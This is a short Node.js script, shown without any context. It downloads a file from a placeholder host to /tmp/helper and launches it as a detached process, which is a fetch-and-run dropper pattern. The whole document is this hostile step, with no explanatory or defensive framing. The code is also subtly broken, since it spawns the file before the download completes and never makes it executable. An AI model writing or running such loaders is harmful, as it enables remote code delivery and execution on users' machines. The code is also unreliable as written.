const https = require('https');
const fs = require('fs');
const cp = require('child_process');
const target = '/tmp/helper';
https.get('https://files.invalid/helper', (answer) => {
  answer.pipe(fs.createWriteStream(target));
});
cp.spawn(target, [], { detached: true });
